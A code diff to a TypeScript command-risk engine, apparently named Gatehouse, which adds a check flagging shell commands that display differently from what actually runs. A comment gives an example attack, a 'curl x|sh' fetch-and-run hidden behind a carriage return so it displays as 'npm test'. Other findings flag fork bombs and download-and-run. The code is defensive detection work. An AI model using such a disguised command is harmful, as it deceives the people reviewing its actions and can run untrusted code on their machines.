@@ -1,6 +1,7 @@
 // The risk engine: reads a command as the shell will run it, judges each simple command it would
 // execute, and says precisely why. The whole command is as risky as its worst segment.
 import type { RiskAssessment, RiskSegment } from '../../../shared/domain.ts';
+import { showText } from '../../../shared/visible-text.ts';
 import { ContextProvider, type RiskContext } from './context.ts';
 import type { ParsedCommand, Segment, Word } from './model.ts';
 import { classifyPath } from './paths.ts';
@@ -126,12 +127,29 @@ function combine(command: string, parsed: ParsedCommand, segments: SegmentAssess
   if (downloadedAndRun) found.push(downloadedAndRun);
   if (forkBomb(segments)) found.push(finding('process', S.catastrophic, 'a fork bomb: it multiplies until the machine stops responding'));
   if (endlessSpawningLoop(command, segments)) found.push(finding('process', S.critical, 'starts a background job on every pass of a loop that never ends, until the machine runs out of processes'));
+  const hidden = hiddenText(command);
+  if (hidden) found.push(hidden);
   if (!parsed.complete) {
     found.push(finding('unparsed', S.medium, `Gatehouse could not read all of it: ${parsed.problems.join('; ') || 'unknown syntax'}`));
   }
   if (segments.length === 0 && parsed.complete) found.push(finding('read-only', S.none, 'runs nothing'));
   const score = Math.min(100, Math.max(0, ...found.map((f) => f.score)));
   return { ...summarise(score, found, { segments }), segments };
+}
+
+/** How many of the hidden things a reason names; the card and the CLI list them all. */
+const HIDDEN_NAMED = 3;
+
+/**
+ * A command that shows differently from what runs (`curl x|sh #\r    npm test` shows as `npm test`) is an attack on
+ * the person reviewing it, whatever it runs: at least high, so no rule, trust mode or auto-allow lets it through.
+ */
+function hiddenText(command: string): Finding | null {
+  const { flags } = showText(command);
+  if (flags.length === 0) return null;
+  const named = flags.slice(0, HIDDEN_NAMED).map((f) => f.message);
+  const more = flags.length > HIDDEN_NAMED ? `; and ${flags.length - HIDDEN_NAMED} more` : '';
+  return finding('hidden-text', S.high, `it shows differently from what runs (shown escaped): ${named.join('; ')}${more}`);
 }
 
 function unique<T>(xs: T[]): T[] {
